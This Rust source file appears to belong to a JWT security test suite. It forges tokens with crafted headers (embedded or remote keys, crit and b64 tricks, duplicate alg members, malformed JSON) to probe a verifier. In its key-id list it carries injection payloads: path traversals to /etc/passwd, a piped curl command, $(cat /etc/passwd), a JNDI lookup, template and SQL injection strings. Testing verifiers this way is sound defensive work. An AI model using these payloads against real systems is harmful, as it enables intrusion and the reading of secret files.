//! Attacks by the header of a token: keys that it brings along, extensions that change what is
//! signed, key ids that are paths, addresses and queries, and headers that two readers could read
//! differently.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::Algorithm;
use rsa::pkcs8::EncodePublicKey as _;
use serde_json::json;

use crate::attacks::{Attack, bearer};
use crate::support::forge::{
    changed, forge, good_header, header_with, jwk, signing, stranger, thumbprint, under, with_first,
};
use crate::support::tokens;

/// `url` is of a server that notes who asks it for anything.
pub fn attacks(url: &str) -> Vec<Attack> {
    let mut attacks = members(url);
    attacks.extend(keys_of_a_stranger(url));
    attacks.extend(kids(url));
    attacks.extend(shapes());
    attacks
}

/// Our own signature over a header that says too much.
fn members(url: &str) -> Vec<Attack> {
    let address = format!("{url}/jwks.json");
    let key = json!({"kty": "RSA", "n": "AQAB", "e": "AQAB"});
    let changes = [
        json!({"jku": address}),
        json!({"jku": ""}),
        json!({"jwk": key}),
        json!({"x5u": address}),
        json!({"x5c": ["MIIB"]}),
        json!({"x5c": []}),
        json!({"crit": ["exp"]}),
        json!({"crit": []}),
        json!({"crit": ["alg", "kid"]}),
        json!({"crit": "exp"}),
        json!({"crit": ["urn:example:strict"], "urn:example:strict": true}),
        json!({"b64": false, "crit": ["b64"]}),
        json!({"b64": true, "crit": ["b64"]}),
        json!({"b64": false}),
        json!({"b64": true}),
        json!({"zip": "DEF"}),
        json!({"zip": "none"}),
        json!({"enc": "A256GCM"}),
        json!({"enc": "none"}),
        json!({"typ": "dpop+jwt"}),
        json!({"typ": "logout+jwt"}),
        json!({"typ": "secevent+jwt"}),
        json!({"typ": "oauth-authz-req+jwt"}),
        json!({"typ": "JWE"}),
        json!({"typ": "JOSE+JSON"}),
        json!({"typ": ""}),
        json!({"typ": 7}),
        json!({"typ": ["JWT"]}),
    ];
    let attacks = changes.iter().map(|changes| {
        // Without the port of the day, so that an attack has one name.
        let told = changes.to_string().replace(url, "URL");
        bearer(format!("header with {told}"), under(header_with(changes)))
    });
    // A reader may take null for absent; the next one need not.
    let nulls = ["crit", "b64", "jku", "jwk", "x5u", "x5c", "zip", "enc"].map(|name| {
        let header = with_first(&format!("\"{name}\":null"), &good_header());
        bearer(format!("header with {name} null"), under(header))
    });
    attacks.chain(nulls).collect()
}

/// A stranger's signature, and where to find the stranger's key.
fn keys_of_a_stranger(url: &str) -> Vec<Attack> {
    let public = &stranger().public;
    let spki = STANDARD.encode(public.to_public_key_der().unwrap().as_bytes());
    let address = format!("{url}/jwks.json");
    let their_kid = thumbprint(public);
    let key = |kid: &str| {
        let with = json!({"kid": kid, "alg": "RS256", "use": "sig"});
        changed(jwk(public), &with)
    };
    let changes = [
        json!({"jwk": key(tokens::kid())}),
        json!({"jwk": key(&their_kid), "kid": their_kid}),
        json!({"jwk": key(&their_kid), "kid": null}),
        json!({"jku": address}),
        json!({"jku": address, "kid": their_kid}),
        json!({"x5u": address}),
        json!({"x5u": address, "kid": null}),
        json!({"x5c": [spki]}),
        json!({"x5c": [spki], "kid": null}),
        json!({"x5t": their_kid}),
        json!({"x5t#S256": their_kid, "kid": null}),
        json!({"iss": url}),
    ];
    let payload = tokens::claims().to_string();
    let theirs = signing(&stranger().private);
    let attacks = changes.iter().enumerate().map(|(number, changes)| {
        let names: Vec<_> = changes.as_object().unwrap().keys().cloned().collect();
        let token = forge(header_with(changes), &payload, &theirs, Algorithm::RS256);
        let name = format!("a stranger's key {number}: {}", names.join(", "));
        bearer(name, token)
    });
    attacks.collect()
}

/// Our own signature, under a key id that is looked up and never used otherwise.
fn kids(url: &str) -> Vec<Attack> {
    let ours = tokens::kid();
    let kids = [
        ("none at all", json!(null)),
        ("empty", json!("")),
        ("of nobody", json!("another")),
        ("one character longer", json!(format!("{ours}x"))),
        ("one character shorter", json!(&ours[1..])),
        ("in capitals", json!(ours.to_uppercase())),
        ("after a space", json!(format!(" {ours}"))),
        ("before a space", json!(format!("{ours} "))),
        ("before a newline", json!(format!("{ours}\n"))),
        ("before a NUL", json!(format!("{ours}\0"))),
        ("with padding", json!(format!("{ours}="))),
        ("percent-encoded", json!(ours.replace('a', "%61") + "%00")),
        ("beside another", json!(format!("{ours},another"))),
        ("a path to it", json!(format!("../keys/{ours}"))),
        ("its file", json!("jwt.public.pem")),
        ("its file by a path", json!("./keys/jwt.public.pem")),
        ("/dev/null", json!("/dev/null")),
        ("a traversal", json!("../../../../../../etc/passwd")),
        ("a traversal, encoded", json!("..%2f..%2f..%2fetc%2fpasswd")),
        ("a traversal, Windows", json!("..\\..\\windows\\win.ini")),
        ("a file URL", json!("file:///proc/self/environ")),
        ("a URL", json!(format!("{url}/key.pem"))),
        ("a command", json!("| curl http://127.0.0.1/")),
        ("a substitution", json!("$(cat /etc/passwd)")),
        ("a lookup", json!("${jndi:ldap://127.0.0.1/x}")),
        ("a template", json!("{{7*7}}")),
        ("SQL", json!("x' OR '1'='1")),
        ("SQL with a key", json!("x' UNION SELECT 'key';--")),
        ("a glob", json!("*")),
        ("an expression", json!(".*")),
        ("a prototype", json!("__proto__")),
        ("a number", json!(7)),
        ("a float", json!(1e308)),
        ("true", json!(true)),
        ("a list", json!([ours])),
        ("an object", json!({"kid": ours})),
        ("4,000 characters", json!("k".repeat(4000))),
        ("ours a hundred times", json!(ours.repeat(100))),
        ("not ASCII", json!("κλειδί\u{202e}")),
    ];
    let mut attacks: Vec<_> = kids
        .into_iter()
        .map(|(what, kid)| {
            bearer(
                format!("kid {what}"),
                under(header_with(&json!({"kid": kid}))),
            )
        })
        .collect();
    // The changes of a header take null for absent.
    let null = good_header()
        .to_string()
        .replace(&format!("\"{ours}\""), "null");
    attacks.push(bearer("kid null", under(null)));
    attacks
}

/// Headers that are no header, or two.
fn shapes() -> Vec<Attack> {
    let good = good_header().to_string();
    let twice = |member: &str| with_first(member, &good_header());
    let deep = format!("{}{}", "[".repeat(2000), "]".repeat(2000));
    let kid = tokens::kid();
    let headers: [(&str, Vec<u8>); 28] = [
        ("alg none and RS256", twice(r#""alg":"none""#).into()),
        ("alg HS256 and RS256", twice(r#""alg":"HS256""#).into()),
        ("alg RS256 twice", twice(r#""alg":"RS256""#).into()),
        ("alg escaped and alg", twice(r#""\u0061lg":"none""#).into()),
        (
            "alg RS256 and none",
            good.replacen('}', r#","alg":"none"}"#, 1).into(),
        ),
        (
            "Alg in capitals alone",
            good.replace("\"alg\"", "\"ALG\"").into(),
        ),
        ("two kids", twice(r#""kid":"another""#).into()),
        (
            "the same kid twice",
            twice(&format!(r#""kid":"{kid}""#)).into(),
        ),
        (
            "kid escaped and kid",
            twice(r#""\u006bid":"another""#).into(),
        ),
        ("two typs", twice(r#""typ":"at+jwt""#).into()),
        ("in a list", format!("[{good}]").into()),
        (
            "a list of its values",
            json!(["JWT", "RS256", null, null, null, kid])
                .to_string()
                .into(),
        ),
        ("in a string", json!(good).to_string().into()),
        ("twice", format!("{good}{good}").into()),
        ("twice with a space", format!("{good} {good}").into()),
        ("before garbage", format!("{good}x").into()),
        ("before a NUL", format!("{good}\0").into()),
        ("after a byte order mark", format!("\u{feff}{good}").into()),
        ("with a comment", good.replacen('{', "{/* */", 1).into()),
        ("with a last comma", good.replacen('}', ",}", 1).into()),
        ("in single quotes", good.replace('"', "'").into()),
        ("cut short", good[..good.len() - 1].into()),
        ("nested too deeply", twice(&format!(r#""x":{deep}"#)).into()),
        ("null", "null".into()),
        ("empty", "".into()),
        ("an empty object", "{}".into()),
        (
            "not UTF-8",
            [good.trim_end_matches('}').as_bytes(), b",\"x\":\"\xff\"}"].concat(),
        ),
        (
            "in UTF-16",
            good.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        ),
    ];
    headers
        .into_iter()
        .map(|(what, header)| bearer(format!("header {what}"), under(header)))
        .collect()
}
